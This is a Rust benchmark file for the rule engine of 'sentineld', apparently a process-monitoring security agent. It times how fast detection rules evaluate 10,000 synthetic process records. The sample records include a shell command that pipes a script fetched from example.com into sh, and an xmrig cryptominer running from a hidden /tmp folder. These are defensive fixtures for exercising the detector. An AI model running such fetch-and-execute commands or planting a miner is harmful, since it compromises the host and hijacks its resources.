//! Rule evaluation: the built-in pack and 100 synthetic rules over 10,000
//! synthetic process records (one `RuleSet::evaluate` per record, as the
//! agent's detector does on a full snapshot).
//!
//! `cargo bench -p sentineld-benches --bench rules`

#![allow(clippy::unwrap_used, reason = "benchmark set-up")]

use std::hint::black_box;
use std::path::PathBuf;

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use sentineld_agent::rules::{Record, RuleDef, RuleSet, Severity};

const RECORDS: usize = 10_000;

fn records() -> Vec<Record> {
    let programs: &[(&str, &str, &[&str])] = &[
        ("bash", "/usr/bin/bash", &["-bash"]),
        ("sshd", "/usr/sbin/sshd", &["sshd: alice [priv]"]),
        (
            "systemd",
            "/usr/lib/systemd/systemd",
            &["/sbin/init", "splash"],
        ),
        ("kworker/0:1", "", &[]),
        (
            "python3",
            "/usr/bin/python3.11",
            &["python3", "-m", "http.server", "8000"],
        ),
        ("nginx", "/usr/sbin/nginx", &["nginx: worker process"]),
        (
            "postgres",
            "/usr/lib/postgresql/16/bin/postgres",
            &["postgres: checkpointer"],
        ),
        (
            "java",
            "/usr/lib/jvm/java-17/bin/java",
            &[
                "java",
                "-Xmx2g",
                "-jar",
                "/opt/app/app.jar",
                "--spring.profiles.active=prod",
            ],
        ),
        ("node", "/usr/bin/node", &["node", "/srv/app/server.js"]),
        (
            "sh",
            "/usr/bin/dash",
            &["sh", "-c", "curl -fsSL http://example.com/x | sh"],
        ),
        (
            "xmrig",
            "/tmp/.x/xmrig",
            &["./xmrig", "-o", "stratum+tcp://pool:3333"],
        ),
        (
            "containerd-shim",
            "/usr/bin/containerd-shim-runc-v2",
            &[
                "/usr/bin/containerd-shim-runc-v2",
                "-namespace",
                "moby",
                "-id",
                "0123456789abcdef",
                "-address",
                "/run/containerd/containerd.sock",
            ],
        ),
    ];
    (0..RECORDS)
        .map(|i| {
            let (name, exe, argv) = programs[i % programs.len()];
            let mut cmdline: Vec<String> = argv.iter().map(|s| (*s).to_owned()).collect();
            if !cmdline.is_empty() {
                cmdline.push(format!("--instance={i}"));
            }
            let pid = u32::try_from(i).expect("RECORDS fits in u32") + 100;
            Record {
                pid,
                ppid: pid / 7,
                start_time: 1_700_000_000 + i64::from(pid),
                name: name.to_owned(),
                exe: (!exe.is_empty()).then(|| exe.to_owned()),
                cmdline,
                uid: Some(if i % 3 == 0 { 0 } else { 1000 }),
                user: Some(if i % 3 == 0 { "root" } else { "alice" }.to_owned()),
                status: "sleeping".to_owned(),
                threads: 1 + (pid % 8),
                rss_bytes: u64::from(pid) * 4096,
                hash_status: "ok".to_owned(),
                parent_name: Some(if i % 5 == 0 { "nginx" } else { "systemd" }.to_owned()),
                parent_cmdline: Some("/sbin/init".to_owned()),
                listening_ports: if i % 11 == 0 { vec![8080] } else { Vec::new() },
                ..Record::default()
            }
        })
        .collect()
}

fn synthetic_rules(n: usize) -> RuleSet {
    let shapes = [
        "exe LIKE '/opt/tool{i}/%' OR exe LIKE '%/bin/tool{i}'",
        "name IN ('tool{i}', 'helper{i}', 'agent{i}') AND uid = 0",
        "regexp_like(cmdline_str, '--mode=evil{i}\\b')",
        "cmdline_str ILIKE '%secret{i}%' AND rss_bytes > 1000000",
        "parent_name = 'nginx' AND name = 'tool{i}'",
        "exe_dir = '/srv/{i}' AND NOT exe_deleted",
        "lower(name) = 'tool{i}' OR contains(listening_ports, {i})",
        "coalesce(user, 'nobody') = 'user{i}' AND threads > 4",
    ];
    let defs = (0..n).map(|i| {
        let sql = format!(
            "SELECT * FROM processes WHERE {}",
            shapes[i % shapes.len()].replace("{i}", &i.to_string())
        );
        (
            PathBuf::from("bench.yaml"),
            RuleDef {
                id: format!("bench.r{i}"),
                title: format!("rule {i}"),
                description: String::new(),
                severity: Severity::Low,
                tags: Vec::new(),
                enabled: true,
                sql,
                rationale: None,
                false_positives: None,
            },
        )
    });
    match RuleSet::from_defs(defs) {
        Ok(set) => set,
        Err(errors) => {
            for e in errors {
                eprintln!("{e}");
            }
            panic!("the bench rules compile");
        }
    }
}

fn eval_all(set: &RuleSet, records: &[Record]) -> usize {
    let mut out = Vec::with_capacity(64);
    let mut matches = 0;
    for r in records {
        out.clear();
        set.evaluate(black_box(r), &mut out);
        matches += out.len();
    }
    matches
}

fn bench_rules(c: &mut Criterion) {
    let records = records();
    for r in &records {
        black_box(r.cmdline_str());
    }
    let pack = RuleSet::builtin();
    let synthetic = synthetic_rules(100);
    eprintln!(
        "rules benches: {} built-in rules, {} synthetic rules, {} records; pack matches {}, synthetic matches {}",
        pack.len(),
        synthetic.len(),
        records.len(),
        eval_all(&pack, &records),
        eval_all(&synthetic, &records)
    );
    let mut group = c.benchmark_group("rules");
    group.throughput(Throughput::Elements(RECORDS as u64));
    group.bench_function("builtin_pack_10k", |b| b.iter(|| eval_all(&pack, &records)));
    group.bench_function("synthetic_100_10k", |b| {
        b.iter(|| eval_all(&synthetic, &records))
    });
    group.finish();
}

criterion_group!(benches, bench_rules);
criterion_main!(benches);
